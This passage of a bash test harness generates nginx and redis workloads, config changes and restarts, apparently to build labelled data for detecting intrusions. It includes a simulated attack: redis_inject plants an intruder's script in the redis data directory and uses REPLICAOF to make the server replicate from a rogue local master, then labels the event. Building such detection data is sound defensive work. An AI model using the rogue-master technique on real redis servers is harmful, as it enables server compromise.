# a sitemap (sitemap.xml) and a 700 kB price list (data/prices.csv). Clients from
# 127.0.10.1-250 for every sixth page and every third image (another offset each round),
# two posts, the sitemap and the assets, and, once the change is in, the operators' admin
# page with basic authentication and a post by its old /news/ address (301); each round one
# more request in turn: DELETE (405), two byte ranges of the price list (a multipart 206),
# a 500 kB POST to a page with `Expect: 100-continue` (405), a path with `//` and a `..`
# segment, TRACE (405), the admin page with a wrong password (401, or 404 before the
# change). The change, in the first seconds while the clients are busy: an admin location
# with basic authentication (conf/htpasswd, a {SHA} entry), a permanent rewrite of /news/ to
# /blog/ and `open_file_cache`, HUP from outside. The maintenance, in the middle: both logs
# rotated as logrotate's copytruncate does (copied with a date suffix, compressed, emptied in
# place: no signal), and the configuration tested by the operator inside the cgroup
# (`nginx -t -q`, as www-data). The late event: the admin password rotated: a new htpasswd
# written beside the old one and renamed over it (nginx reads it at each request); the
# admin client uses the new password.
NGINX_HELDOUT12_ADMIN=0
NGINX_HELDOUT12_PW=
nginx_heldout12_deploy() {
  local i
  mkdir -p "$NGINX_HTML/blog" "$NGINX_HTML/data"
  for i in $(seq -w 1 15); do echo "<html><body>post $i</body></html>" >"$NGINX_HTML/blog/post$i.html"; done
  { echo '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    for i in $(seq -w 1 15); do echo "<url><loc>/blog/post$i.html</loc></url>"; done
    echo '</urlset>'; } >"$NGINX_HTML/sitemap.xml"
  awk 'BEGIN { for (i = 1; i <= 40000; i++) printf "sku%06d,%d.%02d\n", i, i % 500, i % 100 }' >"$NGINX_HTML/data/prices.csv"
}
# nginx_heldout12_htpasswd PASSWORD: conf/htpasswd with the operators' account, written
# beside the old one and renamed over it.
nginx_heldout12_htpasswd() {
  local f=$NGINX_DIR/conf/htpasswd
  printf 'ops:{SHA}%s\n' "$(printf %s "$1" | openssl dgst -sha1 -binary | base64)" >"$f.new"
  chgrp www-data "$f.new"
  chmod 640 "$f.new"
  mv "$f.new" "$f"
  NGINX_HELDOUT12_PW=$1
}
nginx_heldout12_mix() {
  local r=$HELDOUT12_ROUND i u=http://127.0.0.1:$NGINX_PORT a
  local paths=(/ /sitemap.xml /css/site.css /js/app.js)
  for i in $((1 + r % 15)) $((1 + (r + 7) % 15)); do paths+=("/blog/post$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 6)) 6 40); do paths+=("/page$(printf %02d "$i").html"); done
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /img/ 3 20 "$r" .png)
  heldout12_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout12_addr 5)
  if [ "$NGINX_HELDOUT12_ADMIN" = 1 ]; then
    curl -s --interface "$a" -u "ops:$NGINX_HELDOUT12_PW" "$u/admin/" --next -s --interface "$a" \
      "$u/news/post03.html" >/dev/null 2>&1 || true
  fi
  case $((r % 6)) in
    0) curl -s --interface "$a" -X DELETE "$u/page01.html" ;;
    1) curl -s --interface "$a" -r 0-99,300000-300099 "$u/data/prices.csv" ;;
    2) head -c 500000 /dev/zero | curl -s --interface "$a" -H 'Expect: 100-continue' --data-binary @- "$u/page05.html" ;;
    3) curl -s --interface "$a" --path-as-is "$u/blog//../blog/post02.html" ;;
    4) curl -s --interface "$a" -X TRACE "$u/" ;;
    5) curl -s --interface "$a" -u ops:guess "$u/admin/" ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout12_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  mkdir -p "$NGINX_HTML/admin"
  echo "<html><body>operations</body></html>" >"$NGINX_HTML/admin/index.html"
  nginx_heldout12_htpasswd "first-$RANDOM"
  sed -i 's|^  keepalive_timeout 5;$|&\n  open_file_cache max=500 inactive=30s;|' "$conf"
  sed -i "s|^    location /api/ |    location /admin/ { auth_basic operations; auth_basic_user_file $NGINX_DIR/conf/htpasswd; }\n    location /news/ { rewrite ^/news/(.*)\$ /blog/\$1 permanent; }\n&|" "$conf"
  grep -q 'auth_basic_user_file' "$conf" || die "nginx heldout12: config not changed"
  kill -HUP "$NGINX_PID"
  until_ok nginx_heldout12_admin
  NGINX_HELDOUT12_ADMIN=1
}
# nginx_heldout12_admin: the admin page asks for a password.
nginx_heldout12_admin() { [ "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$NGINX_PORT/admin/")" = 401 ]; }
nginx_heldout12_maint() {
  local f stamp
  stamp=$(date +%Y%m%d)
  for f in access error; do
    cp "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log-$stamp"
    : >"$NGINX_DIR/log/$f.log"
    gzip "$NGINX_DIR/log/$f.log-$stamp"
  done
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -t -q
}
nginx_heldout12_late() { nginx_heldout12_htpasswd "rotated-$RANDOM"; }

# Held out, thirteenth set (heldout13). No deploy. Clients from 127.0.11.1-250 for every
# fourth page and every fifth image (another offset each round), the assets and, once the
# change is in, the manual; one more request in turn: a conditional GET with the page's
# ETag (304), an HTTP/1.0 request with no Host header, a 3000-character missing path (404),
# HEAD of an image, a directory without an index (403), a gzip-accepting request for the
# stylesheet. The maintenance, at the very start: the whole configuration dumped by the
# operator inside the cgroup (`nginx -T -q`, as www-data). The restart, in the middle: a fast
# shutdown (TERM to the master) and a start, as `systemctl restart` does. The change, late: a
# new directory of content (`manual/`, twelve chapters and a `files/` directory of three
# PDFs listed by `autoindex`, with `expires 1h` on the manual), HUP from outside.
NGINX_HELDOUT13_MANUAL=0
nginx_heldout13_deploy() { :; }
nginx_heldout13_mix() {
  local r=$HELDOUT13_ROUND u=http://127.0.0.1:$NGINX_PORT a etag
  local paths=(/ /css/site.css /js/app.js) i
  for i in $(seq $((1 + r % 4)) 4 40); do paths+=("/page$(printf %02d "$i").html"); done
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /img/ 5 20 "$r" .png)
  [ "$NGINX_HELDOUT13_MANUAL" = 0 ] || mapfile -t -O "${#paths[@]}" paths < <(every_nth /manual/ch 3 12 "$r" .html; echo /manual/files/)
  heldout13_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout13_addr 5)
  case $((r % 6)) in
    0) etag=$(curl -sI "$u/page10.html" | awk 'tolower($1) == "etag:" { print $2 }' | tr -d '\r')
       curl -s --interface "$a" -H "If-None-Match: $etag" "$u/page10.html" ;;
    1) heldout3_raw "$NGINX_PORT" "$a" 'GET /page03.html HTTP/1.0\r\n\r\n' ;;
    2) curl -s --interface "$a" "$u/$(head -c 3000 /dev/zero | tr '\0' m)" ;;
    3) curl -s --interface "$a" -I "$u/img/$((1 + r % 20)).png" ;;
    4) curl -s --interface "$a" "$u/img/" ;;
    5) curl -s --interface "$a" --compressed "$u/css/site.css" ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout13_maint() {
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -T -q
}
nginx_heldout13_restart() { heldout13_restart nginx NGINX_PID TERM; }
nginx_heldout13_change() {
  local conf=$NGINX_DIR/conf/nginx.conf i
  mkdir -p "$NGINX_HTML/manual"
  for i in $(seq 1 12); do echo "<html><body>chapter $i</body></html>" >"$NGINX_HTML/manual/ch$i.html"; done
  mkdir -p "$NGINX_HTML/manual/files"
  for i in install upgrade backup; do head -c 40000 /dev/urandom >"$NGINX_HTML/manual/files/$i.pdf"; done
  sed -i "s|^    location /api/ |    location /manual/ { expires 1h; }\n    location /manual/files/ { autoindex on; }\n&|" "$conf"
  grep -q 'autoindex on' "$conf" || die "nginx heldout13: config not changed"
  kill -HUP "$NGINX_PID"
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/manual/files/"
  NGINX_HELDOUT13_MANUAL=1
}

# Held out, fourteenth set (heldout14). Deployed before the start: the orders service, an
# application server outside the cgroup (python3 http.server on 127.0.0.1:18094, thirty
# `orders/N.json`), not yet behind nginx. Clients from 127.0.12.1-240 for every fifth page and
# every fourth image (another offset each round), the home page and the assets and, once the
# change is in, every third order through nginx; one more request in turn: a range request
# with two ranges (206, multipart), a POST to a static page (405), a path with a double
# slash, a percent-encoded page name, TRACE (405), an order that does not exist (404, from
# the upstream once the change is in). The change, early: a new upstream (`upstream orders`
# with idle keep-alive connections and `location /orders/` proxied to it), HUP from outside.
# The maintenance, in the middle while the load goes on: the build and its modules checked by
# the operator inside the cgroup (`nginx -V`, as www-data). The reload, late: HUP from
# outside with the configuration unchanged (as a certificate renewal's hook does). The tail:
# three long-lived keep-alive clients from 127.0.12.241-250, a page or an order every ~1.2 s.
NGINX_HELDOUT14_PORT=18094   # the orders service (HAPROXY_HELDOUT4_PORT: checked free at the start)
NGINX_HELDOUT14_ORDERS=0
nginx_heldout14_deploy() {
  local d=$NGINX_DIR/upstream/orders i
  NGINX_HELDOUT14_ORDERS=0
  mkdir -p "$d"
  for i in $(seq 1 30); do printf '{"order": %d, "status": "shipped"}\n' "$i" >"$d/$i.json"; done
  (cd "$NGINX_DIR/upstream" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "$NGINX_HELDOUT14_PORT") \
    >/dev/null 2>&1 &
  PIDS+=($!)
  until_ok curl -sf "http://127.0.0.1:$NGINX_HELDOUT14_PORT/orders/1.json"
}
nginx_heldout14_mix() {
  local r=$HELDOUT14_ROUND u=http://127.0.0.1:$NGINX_PORT
  local paths=(/ /css/site.css /js/app.js) i
  for i in $(seq $((1 + r % 5)) 5 40); do paths+=("/page$(printf %02d "$i").html"); done
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /img/ 4 20 "$r" .png)
  [ "$NGINX_HELDOUT14_ORDERS" = 0 ] || mapfile -t -O "${#paths[@]}" paths < <(every_nth /orders/ 3 30 "$r" .json)
  heldout14_get "$NGINX_PORT" "${paths[@]}"
  local odd=()
  case $((r % 6)) in
    0) odd=(-r "0-99,500-599" "$u/img/$((1 + r % 20)).png") ;;
    1) odd=(-d note=1 "$u/page02.html") ;;
    2) odd=(--path-as-is "$u//page01.html") ;;
    3) odd=("$u/page%30%34.html") ;;
    4) odd=(-X TRACE "$u/") ;;
    5) odd=("$u/orders/999.json") ;;
  esac
  heldout14_curl 5 "${odd[@]}"
}
nginx_heldout14_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  sed -i "s|^  server {\$|  upstream orders { server 127.0.0.1:$NGINX_HELDOUT14_PORT; keepalive 4; }\n&|" "$conf"
  sed -i 's|^    location /api/ |    location /orders/ { proxy_pass http://orders; proxy_http_version 1.1; proxy_set_header Connection ""; }\n&|' "$conf"
  grep -q 'proxy_pass http://orders' "$conf" || die "nginx heldout14: config not changed"
  heldout14_reload HUP "$NGINX_PID" curl -sf "http://127.0.0.1:$NGINX_PORT/orders/1.json"
  NGINX_HELDOUT14_ORDERS=1
}
nginx_heldout14_maint() { admin nginx www-data /usr/sbin/nginx -V; }
nginx_heldout14_reload() { heldout14_reload HUP "$NGINX_PID" curl -sf "http://127.0.0.1:$NGINX_PORT/index.html"; }
nginx_heldout14_tail() {
  heldout14_linger "$NGINX_PORT" "$1" / /page03.html /orders/4.json /page17.html /img/9.png /orders/12.json \
    /page28.html /css/site.css
}


# Held out, fifteenth set (heldout15). No deploy. Clients from 127.0.14.1-250 for every sixth
# page and every third image (another offset each round), the home page and the assets; one
# more client in turn (heldout15_odd): three requests pipelined on one connection, an image
# downloaded at 1 kB/s, a request abandoned halfway through its headers, a 1 MB POST
# abandoned after 0.4 s, a page with 400 query parameters, a keep-alive client that waits
# 1.5 s between two requests. The maintenance, first, while the full load is on: a candidate
# configuration (the access log moved to `log/site-access.log`, a longer keep-alive, a 2 MB
# body limit) tested by the operator inside the cgroup (`nginx -t -c conf/nginx.conf.next`,
# as www-data). The restart, in the middle: `nginx -s quit` by the operator inside the cgroup
# (a graceful stop by nginx's own control command) and a start. The change, last: the tested
# configuration installed and applied by `nginx -s reload` inside the cgroup.
nginx_heldout15_deploy() { :; }
nginx_heldout15_mix() {
  local r=$HELDOUT15_ROUND i
  local paths=(/ /css/site.css /js/app.js)
  for i in $(seq $((1 + r % 6)) 6 40); do paths+=("/page$(printf %02d "$i").html"); done
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /img/ 3 20 "$r" .png)
  heldout15_get "$NGINX_PORT" "${paths[@]}"
  heldout15_odd "$NGINX_PORT" /page07.html "/img/$((1 + r % 20)).png"
}
# nginx_ctl CONF ARG...: nginx's own command line on CONF, by the operator inside the cgroup.
nginx_ctl() { admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$1" "${@:2}"; }
nginx_heldout15_maint() {
  local conf=$NGINX_DIR/conf/nginx.conf
  sed -e 's|log/access.log;$|log/site-access.log;|' \
    -e 's|^  keepalive_timeout 5;$|  keepalive_timeout 15;\n  client_max_body_size 2m;|' "$conf" >"$conf.next"
  grep -q 'client_max_body_size 2m' "$conf.next" || die "nginx heldout15: the candidate was not written"
  nginx_ctl "$conf.next" -t -q
}
nginx_heldout15_restart() { heldout15_ctl_restart nginx NGINX_PID nginx_ctl "$NGINX_DIR/conf/nginx.conf" -s quit; }
nginx_heldout15_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  cp "$conf.next" "$conf"
  nginx_ctl "$conf" -s reload
  # (The candidate's test created the new log, empty; the new workers write to it.)
  until_ok sh -c "curl -sf http://127.0.0.1:$NGINX_PORT/index.html && test -s $NGINX_DIR/log/site-access.log"
}

# Held out, sixteenth set (heldout16). No deploy. Clients from 127.0.16.1-250 for every
# eighth page and every fourth image (another offset each round), the home page and the
# assets, and once they are published the guides; in the quiet start one slow client (three
# of them over one connection at 20 kB/s, heldout16_get); one more client in turn
# (heldout16_odd): a new connection for each of six requests, one request replayed eight
# times, UTF-8 and 2000-character names, a link checker's 25 missing pages, HEAD and
# OPTIONS, a JSON body after `Expect: 100-continue`. The change, early: the site's own
# error page for missing paths (`error_page 404 /errors/404.html`, written beside the pages,
# internal only) and a charset for the pages, HUP from outside (the unit's reload). The second change, two thirds in: a guides section published by the
# deploy side (files with UTF-8 names and a 1 MB PDF, written into a new directory and
# renamed into place). The maintenance, last: the configuration backed up into a new
# directory and tested from there by the operator inside the cgroup (`nginx -t -c
# conf/backup-<date>/nginx.conf`, root). Then a clean shutdown (QUIT).
NGINX_HELDOUT16_GUIDES=0
nginx_heldout16_deploy() { NGINX_HELDOUT16_GUIDES=0; }
nginx_heldout16_mix() {
  local r=$HELDOUT16_ROUND
  local paths=(/ /css/site.css /js/app.js)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 8 40 "$r" .html | sed 's|/page\([0-9]\)\.|/page0\1.|'
    every_nth /img/ 4 20 "$r" .png)
  [ "$NGINX_HELDOUT16_GUIDES" = 0 ] || paths+=(/guides/ /guides/caf%C3%A9.html /guides/%E6%97%A5%E6%9C%AC.html /guides/manual.pdf)
  heldout16_get "$NGINX_PORT" "${paths[@]}"
  heldout16_odd "$NGINX_PORT" /page09.html
}
nginx_heldout16_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  mkdir -p "$NGINX_HTML/errors"
  echo "<html><body>This page has moved or never existed.</body></html>" >"$NGINX_HTML/errors/404.html"
  sed -i -e 's|^    index index.html;$|&\n    charset utf-8;\n    error_page 404 /errors/404.html;\n    location = /errors/404.html { internal; }|' "$conf"
  grep -q 'error_page 404' "$conf" || die "nginx heldout16: config not changed"
  heldout14_reload HUP "$NGINX_PID" curl -sf "http://127.0.0.1:$NGINX_PORT/index.html"
}
nginx_heldout16_second() {
  local g=$NGINX_HTML/guides.new
  mkdir -p "$g"
  echo "<html><body><a href=\"café.html\">café</a> <a href=\"日本語.html\">日本語</a></body></html>" >"$g/index.html"
  echo "<html><body>guide: café</body></html>" >"$g/café.html"
  echo "<html><body>guide: 日本語</body></html>" >"$g/日本語.html"
  head -c 1000000 /dev/urandom >"$g/manual.pdf"
  mv "$g" "$NGINX_HTML/guides"
  NGINX_HELDOUT16_GUIDES=1
}
nginx_heldout16_maint() {
  local b
  b=$NGINX_DIR/conf/backup-$(date +%Y%m%d)
  mkdir -p "$b"
  cp "$NGINX_DIR/conf/nginx.conf" "$b/nginx.conf"
  admin nginx root /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$b/nginx.conf" -t -q
}
# Held out, seventeenth set (heldout17). No deploy. A cold start under load: nginx starts
# inside the recording while clients already retry (heldout17_begin). Clients from
# 127.0.19.1-250 for every seventh page and every third image (another offset each round), the
# home page and the assets, as many at a time as the slow wave's load; once the status
# listener is in, the monitoring's scrape of it; one more client in turn (heldout17_odd):
# upper-case, percent-encoded and dot-segment forms of a page, requests for an image sent and
# closed without reading, eight clients at once on the home page, a form posted with a chunked
# body, 40 one-byte ranges over one connection, an absolute-form request with two ranges and
# `OPTIONS *`. The maintenance, early: the next configuration (a second server block listening
# on 127.0.0.1:$NGINX_PORT2 with nginx's status page, `stub_status`) staged beside the live one
# and tested by the operator inside the cgroup (`nginx -t -c conf/nginx.next.conf`, root). The
# change, in the middle, by a full restart (QUIT, start): the staged configuration put in
# place. The maintenance, late, while the load falls: the workers told to re-open their logs
# (`nginx -s reopen`, as www-data) after the access log was copied aside and emptied. The
# recording ends with load still running.
NGINX_PORT2=18081
NGINX_HELDOUT17_STATUS=0
nginx_heldout17_deploy() { NGINX_HELDOUT17_STATUS=0; heldout17_free_port "$NGINX_PORT2"; }
nginx_heldout17_mix() {
  local r=$HELDOUT17_ROUND paths=(/ /css/site.css /js/app.js)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 7 40 "$r" .html | sed 's|/page\([0-9]\)\.|/page0\1.|'
    every_nth /img/ 3 20 "$r" .png)
  heldout17_get "$NGINX_PORT" "${paths[@]}"
  [ "$NGINX_HELDOUT17_STATUS" = 0 ] || addr_curl 127.0.0.1 "http://127.0.0.1:$NGINX_PORT2/nginx_status"
  heldout17_odd "$NGINX_PORT" /page09.html /img/7.png / /api/feedback
}
nginx_heldout17_early() {
  local next=$NGINX_DIR/conf/nginx.next.conf
  sed "s|^  server {\$|  server {\n    listen 127.0.0.1:$NGINX_PORT2;\n    access_log off;\n    location = /nginx_status { stub_status; allow 127.0.0.1; deny all; }\n  }\n&|" \
    "$NGINX_DIR/conf/nginx.conf" >"$next"
  grep -q stub_status "$next" || die "nginx heldout17: nginx.next.conf not written"
  admin nginx root /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$next" -t -q
}
nginx_heldout17_change() {
  nginx_stop
  mv "$NGINX_DIR/conf/nginx.next.conf" "$NGINX_DIR/conf/nginx.conf"
  nginx_start
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT2/nginx_status"
  NGINX_HELDOUT17_STATUS=1
}
nginx_heldout17_late() {
  cp "$NGINX_DIR/log/access.log" "$NGINX_DIR/log/access.log.$(date +%H%M%S)"
  truncate -s 0 "$NGINX_DIR/log/access.log"
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reopen
}

# --- redis --------------------------------------------------------------------------------

REDIS_DIR=$WORK/redis
REDIS_DATA=$REDIS_DIR/data

redis_provision() {
  rm -rf "$REDIS_DIR"
  mkdir -p "$REDIS_DATA" "$REDIS_DIR/run" "$REDIS_DIR/log"
  cat >"$REDIS_DIR/redis.conf" <<CONF
bind 127.0.0.1
port $REDIS_PORT
protected-mode yes
daemonize no
supervised no
pidfile $REDIS_DIR/run/redis.pid
logfile $REDIS_DIR/log/redis.log
dir $REDIS_DATA
dbfilename dump.rdb
save 2 1
appendonly yes
appendfsync everysec
CONF
  chown -R redis:redis "$REDIS_DIR"
  # A service that has run before: data and the append-only files exist.
  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
  local pid=$LAUNCHED
  until_ok redis_ping
  redis-benchmark -p "$REDIS_PORT" -q -n 2000 -c 2 -r 1000 -t set,lpush >/dev/null
  stop_pid "$pid" TERM
}

redis_ping() { [ "$(redis-cli -p "$REDIS_PORT" ping 2>/dev/null)" = PONG ]; }
REDIS_PID=
redis_start() {
  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
  REDIS_PID=$LAUNCHED
  until_ok redis_ping
}
redis_stop() { stop_pid "$REDIS_PID" TERM; }

# Mix A: strings, counters and lists over 1000 keys, four clients.
redis_mix_a() {
  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 4 -r 1000 -t set,get,incr,lpush,lpop >/dev/null
  redis-cli -p "$REDIS_PORT" get key:000000000001 >/dev/null
}
# Mix B: hashes, sets, sorted sets, MSET and ranges over 50000 keys, sixteen clients, and the
# inspection commands an operator runs.
redis_mix_b() {
  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 16 -r 50000 -t hset,sadd,zadd,mset,lrange_100 >/dev/null
  redis-cli -p "$REDIS_PORT" info >/dev/null
  redis-cli -p "$REDIS_PORT" dbsize >/dev/null
  redis-cli -p "$REDIS_PORT" --scan --pattern 'key:*' >/dev/null
}

# Scheduled jobs: rewrite the append-only file, as redis does by itself when the file has
# doubled (auto-aof-rewrite-percentage) and operators schedule on quiet hours; and the
# monitoring scrape (INFO) every exporter of redis metrics makes.
redis_maintenance() {
  redis-cli -p "$REDIS_PORT" bgrewriteaof >/dev/null
  redis-cli -p "$REDIS_PORT" info >/dev/null
}

# The intruder's script as redis in the data directory, then the rogue-master technique:
# make the server replicate from the intruder's host.
redis_inject() {
  start_peer "$ROGUE_PORT"
  inject_shell redis redis "$REDIS_DATA"
  redis-cli -p "$REDIS_PORT" replicaof 127.0.0.1 "$ROGUE_PORT" >/dev/null
  sleep 1.5
  redis-cli -p "$REDIS_PORT" replicaof no one >/dev/null
}
redis_labels() {
  write_labels redis "$REDIS_DATA" ",
  {\"kind\": \"network\", \"subject\": \"127.0.0.1:$ROGUE_PORT\", \"what\": \"REPLICAOF makes redis connect to a rogue master\"}"
}

# redis_from ADDR COMMAND...: inline commands (one per argument) from source address ADDR, as
# an application server on another address would send them.
# A COMMAND `#sleep S` sends nothing and pauses S s (a long-lived client between requests).
redis_from() {
  local addr=$1
  shift
  perl -MIO::Socket::INET -e '
    my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => shift, LocalAddr => shift)
      or die "connect: $!";
    for my $c (@ARGV) {
      if ($c =~ /^#sleep (\S+)$/) { select(undef, undef, undef, $1); next; }
      print $s "$c\r\n"; my $r = <$s>; $r = <$s> if $r =~ /^\$\d/;
    }
    print $s "QUIT\r\n";' "$REDIS_PORT" "$addr" "$@"
}
# Held out. Application servers on 127.0.0.2-20 keep sessions in a database (SELECT 3) training never
# used, with expiries; a benchmark of other commands and larger values on 32 clients; the
# scheduled jobs with other arguments (BGSAVE instead of BGREWRITEAOF, INFO sections,
# SLOWLOG, CLIENT LIST, CONFIG GET).
redis_heldout_mix() {
  local i pids=()
  for i in $(seq 2 20); do
    redis_from "127.0.0.$i" "SELECT 3" "SET session:$i:$RANDOM payload-$i" "EXPIRE session:$i:$RANDOM 300" \
      "GET session:$i:1" "HINCRBY stats:$i hits 1" "LPUSH queue:jobs job-$i" "RPOP queue:jobs" &
    pids+=($!)
  done
  wait "${pids[@]}"
  redis-benchmark -p "$REDIS_PORT" -q -n 6000 -c 32 -d 512 -r 100000 -t set,get,incr,hset,rpush,rpop,mset >/dev/null
}
redis_heldout_job() {
  redis-cli -p "$REDIS_PORT" bgsave >/dev/null
  redis-cli -p "$REDIS_PORT" info memory >/dev/null
  redis-cli -p "$REDIS_PORT" info persistence >/dev/null
  redis-cli -p "$REDIS_PORT" slowlog get 10 >/dev/null
  redis-cli -p "$REDIS_PORT" client list >/dev/null
  redis-cli -p "$REDIS_PORT" config get maxmemory >/dev/null
}
# The application servers on other addresses need protected mode off (redis 7 accepts only
# 127.0.0.1 and ::1 without it): the operator changes the file and applies it live.
redis_heldout_deploy() {
  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
  redis-cli -p "$REDIS_PORT" config set protected-mode no >/dev/null
}

# Held out, second set (heldout2). The release changes the config file before the start:
# an LRU cache with a memory limit (maxmemory 64mb, allkeys-lru) and protected mode off for
# the application servers, which now use other data types in other databases: leaderboards
# (db 5), event streams (db 6), a page cache with SETEX (db 7), unique-visitor counts
# (HyperLogLog), bitmaps, geo, transactions (MULTI/EXEC), from 127.0.0.21-60; quiet rounds
# (2 clients, pops and pings) and busy ones (48 clients, pipelined, 1 kB values over 200000
# keys, so keys are evicted) and a Lua script (EVAL); the monitoring job with other sections
# (commandstats, keyspace, MEMORY STATS, LATENCY LATEST, LASTSAVE); an operator inside the
# cgroup runs redis-cli (INFO, --bigkeys), redis-check-rdb on the dump, raises maxmemory
# and persists it (CONFIG SET, CONFIG REWRITE); the restart is a SHUTDOWN from redis-cli.
redis_heldout2_deploy() {
  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
  printf 'maxmemory 64mb\nmaxmemory-policy allkeys-lru\n' >>"$REDIS_DIR/redis.conf"
}
redis_heldout2_mix() {
  local i a r=$HELDOUT2_ROUND pids=()
  for i in $(seq 0 9); do
    a=$((21 + (i * 4 + r) % 40))
    case $((i % 5)) in
      0) redis_from "127.0.0.$a" "SELECT 5" "ZINCRBY leaderboard:weekly $((i + 1)) player:$a" \
           "ZREVRANGE leaderboard:weekly 0 9 WITHSCORES" "ZSCORE leaderboard:weekly player:$a" & ;;
      1) redis_from "127.0.0.$a" "SELECT 6" "XADD events:orders * order $r-$i amount $((r * i))" \
           "XLEN events:orders" "XRANGE events:orders - + COUNT 5" "XTRIM events:orders MAXLEN 1000" & ;;
      2) redis_from "127.0.0.$a" "SELECT 7" "SETEX page:/products/$((r % 13)) 60 cached-html-$r" \
           "GET page:/products/$((r % 7))" "TTL page:/products/$((r % 13))" "UNLINK page:/old/$r" & ;;
      3) redis_from "127.0.0.$a" "PFADD visitors:$(date +%Y%m%d) v$a-$r v$i" "PFCOUNT visitors:$(date +%Y%m%d)" \
           "SETBIT active:$(date +%Y%m%d) $((a * 100 + i)) 1" "BITCOUNT active:$(date +%Y%m%d)" \
           "GEOADD stores 13.40$i 52.52$i store:$a" & ;;
      4) redis_from "127.0.0.$a" "MULTI" "INCRBY stock:sku$((r % 11)) -1" "RPUSH orders:pending o$r-$i" \
           "EXEC" "LTRIM orders:pending -500 -1" & ;;
    esac
    pids+=($!)
  done
  wait "${pids[@]}"
  if [ $((r % 2)) = 1 ]; then
    redis-benchmark -p "$REDIS_PORT" -q -n 500 -c 2 -r 5000 -t ping_mbulk,spop,zpopmin >/dev/null
  else
    redis-benchmark -p "$REDIS_PORT" -q -n 15000 -c 48 -P 16 -d 1024 -r 200000 -t set,lpush,lrange_300,xadd >/dev/null
    redis-benchmark -p "$REDIS_PORT" -q -n 2000 -c 8 -r 1000 \
      eval "return redis.call('incr', KEYS[1])" 1 'counter:__rand_int__' >/dev/null
  fi
}
redis_heldout2_job() {
  local c
  for c in "info commandstats" "info keyspace" "memory stats" "latency latest" lastsave; do
    # shellcheck disable=SC2086
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
}
redis_heldout2_admin() {
  local cli=(/usr/bin/redis-cli -p "$REDIS_PORT")
  admin redis redis "${cli[@]}" info
  admin redis redis "${cli[@]}" --bigkeys
  admin redis redis /usr/bin/redis-check-rdb "$REDIS_DATA/dump.rdb"
  admin redis redis "${cli[@]}" config set maxmemory 128mb
  admin redis redis "${cli[@]}" config rewrite
}
# The operator restarts it from inside: SHUTDOWN (it saves first), then the service manager
# starts it again.
redis_heldout2_restart() {
  launch redis redis /usr/bin/redis-cli -p "$REDIS_PORT" shutdown
  wait "$LAUNCHED" || true
  forget "$LAUNCHED"
  wait "$REDIS_PID" 2>/dev/null || true
  forget "$REDIS_PID"
  redis_start
}

# Held out, third set (heldout3). Deployed before the start: authentication (requirepass for
# the default user, and an ACL user `app` limited to the app:* and cache:* keys), so the
# application servers on 127.0.1.10-59 log in first; each round they keep carts, profiles
# and hit counters, and meet the usual errors: a wrong password every third round, a
# command the ACL refuses (NOPERM), a command that does not exist, a WRONGTYPE, a cache miss;
# one client sends half a command and hangs up; a 256 kB value written with redis-cli -x;
# the benchmark of other commands, first with a new connection per request (-k 0), after
# the crash with kept connections. The crash: redis killed with SIGKILL and started again
# by its service manager (it replays its append-only file). The reload: the operator
# changes settings live (CONFIG SET hz, slowlog threshold, save schedule) and adds an ACL
# user for reports. The maintenance: SAVE, CONFIG GET save, ACL LOG, a SCAN over the
# carts, MEMORY USAGE and OBJECT ENCODING of one value, DBSIZE.
REDIS_HELDOUT3_PASS=ops-pass-3
redis_heldout3_deploy() {
  printf 'requirepass %s\nuser app on >app-pass-3 ~app:* ~cache:* &* +@all -@dangerous\n' \
    "$REDIS_HELDOUT3_PASS" >>"$REDIS_DIR/redis.conf"
  # redis-cli (redis_ping, the jobs) logs in from this variable; launch's env -i keeps it out
  # of the cgroup.
  export REDISCLI_AUTH=$REDIS_HELDOUT3_PASS
}
redis_heldout3_mix() {
  local i a r=$HELDOUT3_ROUND pass=app-pass-3 pids=() k=1
  for i in $(seq 0 7); do
    a=127.0.1.$((10 + (i * 7 + r * 3) % 50))
    [ $(((r + i) % 24)) = 0 ] && pass=wrong-pass
    case $((i % 4)) in
      0) redis_from "$a" "AUTH app $pass" "HSET app:cart:$r:$i sku$((r % 17)) $((i + 1))" \
           "HGETALL app:cart:$r:$i" "EXPIRE app:cart:$r:$i 600" "GET cache:home:$((r % 5))" & ;;
      1) redis_from "$a" "AUTH app $pass" "HSET app:user:$((r * 8 + i)) name u$i visits $r" \
